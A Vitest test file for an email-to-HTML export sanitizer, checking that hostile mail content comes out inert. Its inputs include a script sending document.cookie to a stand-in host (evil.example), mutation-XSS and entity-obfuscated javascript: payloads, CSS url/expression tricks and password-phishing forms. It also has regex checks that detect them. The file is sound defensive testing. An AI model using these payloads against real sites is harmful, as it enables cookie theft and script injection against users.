import { describe, expect, it } from 'vitest';
import { cleanStyle, sanitizeMailHtml } from '../../../../lib/export/readable/sanitize';
import { buildMessagePage } from '../../../../lib/export/readable/message-page';
import { PAGE_CSP } from '../../../../lib/export/readable/html';
import { texts, win } from './helpers';

const T = { image: 'image non chargée', imageAlt: 'image non chargée : $1' };
const clean = (html: string, cid?: Map<string, string>) => sanitizeMailHtml(html, { window: win, texts: T, ...(cid ? { cid } : {}) });

/** Nothing that runs, fetches or navigates away may survive. */
function expectInert(out: string) {
  expect(out).not.toMatch(/<script/i);
  expect(out).not.toMatch(/\son[a-z]+\s*=/i);
  expect(out).not.toMatch(/\b(?:src|href|action|formaction|background|poster|srcset|data)\s*=\s*["']?\s*(?:https?:|\/\/|javascript:|vbscript:|file:)/i);
  expect(out).not.toMatch(/url\s*\(|@import|expression\s*\(/i);
  expect(out).not.toMatch(/<(?:iframe|object|embed|form|input|button|meta|base|link|style|svg|math|frame)\b/i);
}

/** A whole generated page: its own head (CSP meta, style) aside, no tag may carry a handler or a remote source. */
function expectInertPage(html: string) {
  const body = html.slice(html.indexOf('<body>'));
  expect(body).not.toMatch(/<script/i);
  expect(body).not.toMatch(/<[^>]*\son[a-z]+\s*=/i);
  expect(body).not.toMatch(/<[^>]*\b(?:src|href)\s*=\s*["']?\s*(?:https?:|\/\/|javascript:)/i);
  expect(body).not.toMatch(/<(?:iframe|object|embed|form|input|meta|base|link|style)\b/i);
}

describe('sanitising hostile mail HTML', () => {
  it('removes scripts and event handlers, keeps the text', () => {
    const out = clean(`<p onclick="steal()">Bonjour <b onmouseover=alert(1)>Docteur</b></p><script>fetch('https://evil.example/?c='+document.cookie)</script><img src=x onerror="alert(1)"><body onload=alert(2)>`);
    expectInert(out);
    expect(out).toContain('Bonjour <b>Docteur</b>');
  });

  it('drops remote images, keeping their alt text as a mark; data: images stay; cid: images point to the local file', () => {
    const cid = new Map([['logo@chu.example', 'logo.png']]);
    const out = clean(
      `<img src="https://tracker.example/open.gif?u=dr" alt="Logo du laboratoire" width=1 height=1>` +
        `<img src="//cdn.example/x.png"><img src="http://x.example/y.png" srcset="http://x.example/y2.png 2x">` +
        `<img src="cid:logo@chu.example" alt="logo"><img src="cid:absent@x" alt="absent">` +
        `<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">` +
        `<img src="data:text/html;base64,PHNjcmlwdD4=">`,
      cid,
    );
    expectInert(out);
    expect(out).toContain('[image non chargée : Logo du laboratoire]');
    expect(out).toContain('<img src="logo.png" alt="logo">');
    expect(out).toContain('[image non chargée : absent]');
    expect(out).toContain('src="data:image/png;base64,iVBORw0KGgo="');
    expect(out).not.toContain('data:text/html');
    expect(out).not.toContain('tracker.example');
    expect(out.match(/class="img-off"/g)?.length).toBe(5);
  });

  it('turns javascript: and other schemes into plain text, http(s) links into inert text with the URL shown, keeps mailto', () => {
    const out = clean(
      `<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(1)">b</a><a href="jav&#x09;ascript:alert(1)">c</a>` +
        `<a href="vbscript:x">d</a><a href="data:text/html,<script>alert(1)</script>">e</a><a href="file:///C:/secret">f</a>` +
        `<a href="https://portail.example/resultats?token=abc" target="_blank" ping="https://t.example">Voir vos résultats</a>` +
        `<a href="https://www.example.fr">https://www.example.fr</a>` +
        `<a href="mailto:secretariat@ch.mssante.fr">écrire</a><a href="#section">haut</a>`,
    );
    expectInert(out);
    expect(out).toContain('<a>a</a>');
    expect(out).toContain('<a>f</a>');
    expect(out).toContain('Voir vos résultats<span class="url"> &lt;https://portail.example/resultats?token=abc&gt;</span>');
    expect(out).not.toContain('target=');
    expect(out).not.toContain('ping=');
    // A link whose text is already its URL is not repeated.
    expect(out).toMatch(/<a class="link-off" title="https:\/\/www.example.fr">https:\/\/www.example.fr<\/a>/);
    expect(out).toContain('<a href="mailto:secretariat@ch.mssante.fr">écrire</a>');
    expect(out).toContain('<a href="#section">haut</a>');
  });

  it('removes forms, frames, objects, meta refresh, base, link, style blocks and SVG/MathML', () => {
    const out = clean(
      `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">` +
        `<link rel="stylesheet" href="https://evil.example/x.css"><style>@import url(https://evil.example/a.css); body{display:none}</style>` +
        `<form action="https://evil.example/login"><input name="password" type="password"><button formaction="https://evil.example">Valider</button></form>` +
        `<iframe src="https://evil.example"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e">` +
        `<svg><script>alert(1)</script><image href="https://evil.example/i.png"/></svg><math><mi xlink:href="javascript:alert(1)">x</mi></math>` +
        `<video poster="https://evil.example/p.jpg" src="https://evil.example/v.mp4"></video><table background="https://evil.example/bg.jpg"><tr><td>cellule</td></tr></table>` +
        `<p>texte</p>`,
    );
    expectInert(out);
    expect(out).toContain('Valider');
    expect(out).toContain('cellule');
    expect(out).toContain('<p>texte</p>');
    expect(out).not.toContain('evil.example');
  });

  it('strips CSS that fetches or covers the page, keeps harmless styles', () => {
    const out = clean(
      `<div style="color: #005a9c; background-image: url('https://evil.example/bg.png'); font-weight: bold">a</div>` +
        `<div style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; background: white">b</div>` +
        `<div style="width: expression(alert(1)); behavior: url(x.htc); -moz-binding: url(x.xml#y)">c</div>` +
        `<div style="background: u\\72l(https://evil.example/e.png)">d</div><div style="background:image-set('https://evil.example/x.png' 1x)">e</div>`,
    );
    expectInert(out);
    expect(out).toContain('style="color: #005a9c; font-weight: bold"');
    expect(out).not.toMatch(/position/i);
    expect(out).not.toContain('evil.example');
    expect(cleanStyle('margin: 0; @import "x.css"')).toBe('margin: 0');
    expect(cleanStyle('background:url(data:image/png;base64,AAA)')).toBe('');
  });

  it('survives classic mutation-XSS and entity tricks', () => {
    const payloads = [
      `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
      `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
      `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
      `<a href="&#106;avascript:alert(1)">x</a>`,
      `<a href="java\u0000script:alert(1)">x</a>`,
      `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
      `<div style="background:url(&quot;javascript:alert(1)&quot;)">x</div>`,
      `<template><img src=x onerror=alert(1)></template>`,
      `<!--<img src="--><img src=x onerror=alert(1)//">`,
    ];
    for (const p of payloads) expectInert(clean(p));
  });

  it('a generated page carries the strict CSP, escapes every header and inserts only the sanitised body', () => {
    const html = buildMessagePage(
      {
        date: Date.UTC(2025, 2, 2, 10, 15),
        from: '"<script>alert(1)</script>" <x@evil.example>',
        to: ['Dr <b>Durand</b> <durand@medecin.mssante.fr>'],
        cc: [],
        subject: '<img src=x onerror=alert(1)> Résultats',
        folder: 'INBOX" onmouseover="x',
        docType: 'biologie',
        kinds: ['hprim'],
        attachments: [{ file: 'a"b<c>#1.pdf', size: 1234, kind: 'pdf' }],
        body: { html: clean('<p>ok</p><script>x</script>'), blocked: false },
        emlPath: 'Boîte de réception/2025-03-02 a#b (1).eml',
        indexPath: 'index.html',
      },
      texts,
    );
    expectInertPage(html);
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="${PAGE_CSP.replace(/'/g, '&#39;')}">`);
    expect(PAGE_CSP).toContain("default-src 'none'");
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt; Résultats');
    expect(html).toContain('INBOX&quot; onmouseover=&quot;x');
    expect(html).toContain('href="a%22b%3Cc%3E%231.pdf"');
    expect(html).toContain('href="../../Bo%C3%AEte%20de%20r%C3%A9ception/2025-03-02%20a%23b%20(1).eml"');
    expect(html).toContain('href="../../index.html"');
    expect(html).toContain('<p>ok</p>');
  });

  it('a text-only message is an escaped <pre>', () => {
    const html = buildMessagePage(
      { date: null, from: 'a', to: [], cc: [], subject: 's', folder: 'INBOX', docType: 'autre', kinds: [], attachments: [], body: { text: 'Ligne 1\n<script>alert(1)</script>\n****FIN****' }, emlPath: null, indexPath: 'index.html' },
      texts,
    );
    expect(html).toContain('<pre class="text">Ligne 1\n&lt;script&gt;alert(1)&lt;/script&gt;\n****FIN****</pre>');
    expectInertPage(html);
  });
});
